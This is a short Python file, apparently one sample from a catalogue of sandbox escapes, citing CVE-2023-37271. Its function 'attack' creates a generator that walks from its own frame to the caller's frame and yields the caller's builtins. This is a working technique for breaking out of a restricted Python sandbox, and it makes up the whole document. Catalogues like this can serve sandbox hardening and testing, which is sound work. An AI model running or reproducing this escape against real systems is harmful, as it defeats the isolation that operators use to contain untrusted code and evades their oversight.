"""Class: frames. Source: CVE-2023-37271. Escape: a running generator's frame leads to its
caller's, and up.
"""


def attack(model, tokenizer, address):
    def walk():
        frame = running.gi_frame.f_back
        yield frame.f_builtins

    running = walk()
    return [each for each in running]
